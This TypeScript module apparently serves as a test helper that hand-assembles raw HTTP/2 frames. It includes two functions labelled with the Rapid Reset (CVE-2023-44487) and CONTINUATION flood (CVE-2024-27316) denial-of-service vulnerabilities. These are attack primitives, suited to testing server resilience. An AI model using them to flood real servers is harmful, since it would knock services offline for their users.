/** HTTP/2 as an attacker writes it: frames put together by hand. */

export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

/** GET / of http://x, from the static table of HPACK. */
const GET = Buffer.from([0x82, 0x84, 0x86, 0x41, 0x01, 0x78]);

const Type = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const;
const END_STREAM = 1;
const END_HEADERS = 4;

/** One frame. */
export function frame(
  type: keyof typeof Type,
  flags: number,
  stream: number,
  payload = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = Type[type];
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A whole GET request; `path` in place of `/`. */
export function get(stream: number, path = '/'): Buffer {
  const named = Buffer.concat([Buffer.from([0x04, path.length]), Buffer.from(path)]);
  const block = path === '/' ? GET : Buffer.concat([GET.subarray(0, 1), named, GET.subarray(2)]);
  return frame('headers', END_HEADERS | END_STREAM, stream, block);
}

/** A request that is given up with the same breath (CVE-2023-44487). */
export function resetGet(stream: number): Buffer {
  return Buffer.concat([get(stream), frame('reset', 0, stream, Buffer.from([0, 0, 0, 8]))]);
}

/** The beginning of a block of fields that never ends (CVE-2024-27316). */
export function openHeaders(stream: number): Buffer {
  return frame('headers', END_STREAM, stream, GET);
}

/** SETTINGS with one setting. */
export function setting(id: number, value: number): Buffer {
  const payload = Buffer.alloc(6);
  payload.writeUInt16BE(id, 0);
  payload.writeUInt32BE(value, 2);
  return frame('settings', 0, 0, payload);
}

/** A window of so many bytes for every stream. */
export function windowOf(bytes: number): Buffer {
  return setting(4, bytes);
}
